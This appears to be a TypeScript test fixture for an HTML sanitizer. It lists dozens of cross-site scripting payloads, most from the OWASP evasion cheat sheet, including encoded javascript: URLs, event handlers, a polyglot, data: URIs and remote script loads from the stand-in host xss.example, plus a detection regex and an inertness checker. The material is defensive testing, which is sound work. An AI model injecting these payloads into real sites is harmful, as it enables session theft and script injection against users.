import { decodeHTML } from 'entities';

/**
 * Hostile markup for the sanitizer tests: the bypasses a red-team pass got through to the site
 * (issue 14 part 3) and the classics of the OWASP XSS Filter Evasion Cheat Sheet. Each entry is
 * a description value; none may reach a site with anything that runs.
 */
export const BYPASSES: [name: string, html: string][] = [
  ['href javascript&#x3a;', '<a href="javascript&#x3a;alert(1)">x</a>'],
  ['href java&Tab;script:', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['href &#106;avascript:', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['href javascript&#58 (no semicolon)', '<a href="javascript&#58alert(1)">x</a>'],
  ['img src javascript&#x3a;', '<img src="javascript&#x3a;alert(1)">'],
];

export const OWASP: [name: string, html: string][] = [
  ['basic script', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
  ['polyglot', `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`],
  ['malformed A onmouseover', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed A unquoted', '<a onmouseover=alert(document.cookie)>xxs link</a>'],
  ['malformed IMG', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default SRC onmouseover', `<IMG SRC=# onmouseover="alert('xxs')">`],
  ['empty SRC onmouseover', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['IMG onerror', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['decimal references', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['decimal references, padded, no semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex references, no semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['embedded encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['embedded encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['embedded encoded CR', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null in javascript:', '<IMG SRC=java\0script:alert("XSS")>'],
  ['spaces and meta chars before javascript:', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha-non-digit', '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>'],
  ['BODY onload junk', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.example/xss.js?< B >'],
  ['half-open IMG', `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ['double open angle iframe', '<iframe src=http://xss.example/scriptlet.html <'],
  ['end title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['INPUT image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['BODY background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['IMG dynsrc/lowsrc', `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`],
  ['vbscript', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['svg onload', `<svg/onload=alert('XSS')>`],
  ['BODY ONLOAD', `<BODY ONLOAD=alert('XSS')>`],
  ['BGSOUND', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['LINK stylesheet', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['STYLE import', `<STYLE>@import'http://xss.example/xss.css';</STYLE>`],
  ['STYLE expression attribute', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['anonymous tag with STYLE', `<XSS STYLE="xss:expression(alert('XSS'))">`],
  ['META refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['META refresh data:', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['IFRAME', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['FRAMESET', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['TABLE/TD background', `<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">`],
  ['DIV background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ['downlevel-hidden comment', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ['BASE href', `<BASE HREF="javascript:alert('XSS');//">`],
  ['OBJECT', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>'],
  ['EMBED svg data:', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml">'],
  ['XML data island', `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`],
  ['a href data:text/html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['form action', '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>'],
  ['math/xlink href', '<math><a xlink:href="javascript:alert(1)">x</a></math>'],
];

/**
 * What no sanitized value may contain: an element that runs or loads code, an event handler, a
 * script-capable URL scheme in any attribute, or a style attribute.
 */
export const DANGER = /<\s*\/?\s*(?:script|style|iframe|frame|object|embed|svg|math|base|meta|link|form|input|button|body|xml|bgsound)\b|\son[a-z]+\s*=|(?:javascript|vbscript|livescript|data)\s*:|\sstyle\s*=|\s(?:background|dynsrc|lowsrc|action|formaction)\s*=/i;

/** Every URL attribute in sanitized HTML, which must be http(s), mailto, tel or relative. */
export function urlAttributes(html: string): string[] {
  return [...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map((m) => m[1]!);
}

const TAG = /^<\/?(?:p|br|hr|b|strong|i|em|u|s|del|ins|sub|sup|small|span|div|blockquote|pre|code|h[1-6]|ul|ol|li|dl|dt|dd|table|thead|tbody|tfoot|tr|td|th|a|img)(?:\s+(?:href|src|title|alt|width|height|start|colspan|rowspan)="[^"<>]*")*\s*\/?>$/;

/**
 * Problems of a sanitized value, [] when it is inert: every tag must be on the allowlist with
 * allowlisted attributes only, no tag may look dangerous, and every URL (entities decoded and
 * controls removed, as a browser reads it) must be relative or http(s)/mailto/tel.
 */
export function inertProblems(html: string): string[] {
  const out: string[] = [];
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    // Attribute values are judged as URLs below (a relative path may spell "javascript:" inertly).
    if (!TAG.test(tag) || DANGER.test(tag.replace(/"[^"]*"/g, '""'))) out.push(`tag ${tag}`);
  }
  for (const raw of urlAttributes(html)) {
    const url = decodeHTML(raw).replace(/[\u0000-\u0020]/g, '');
    if (/^[a-z][a-z0-9+.-]*:/i.test(url) && !/^(?:https?|mailto|tel):/i.test(url)) out.push(`url ${raw}`);
  }
  return out;
}
